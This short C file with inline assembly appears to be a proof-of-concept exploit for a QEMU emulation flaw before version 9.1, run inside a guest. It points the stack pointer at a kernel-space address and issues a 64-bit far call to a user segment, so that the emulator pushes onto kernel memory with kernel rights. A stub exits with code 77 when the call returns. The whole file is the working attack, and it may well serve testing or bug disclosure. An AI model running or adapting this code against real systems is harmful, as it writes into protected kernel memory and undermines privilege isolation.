/* A far call with a stack in the kernel's memory, which QEMU before 9.1 moves with its rights. Ends with 77 if it came back. For guests only. */

#include "attack64.h"

static struct { u64 at; unsigned short segment; } __attribute__((packed)) target;

void lands(void);
asm(".globl lands\nlands:\n\tmov $60, %eax\n\tmov $77, %edi\n\tsyscall\n\thlt\n");

int attack(void)
{
	target.at = (u64)lands;
	target.segment = 0x2b;
	asm volatile("mov $0xffff8000, %%ecx\n\tshl $32, %%rcx\n\tadd $0xf00508, %%rcx\n\tmov %%rcx, %%rsp\n\t.byte 0x48, 0xff, 0x18" : : "a"(&target) : "rcx", "memory");
	return 0;
}
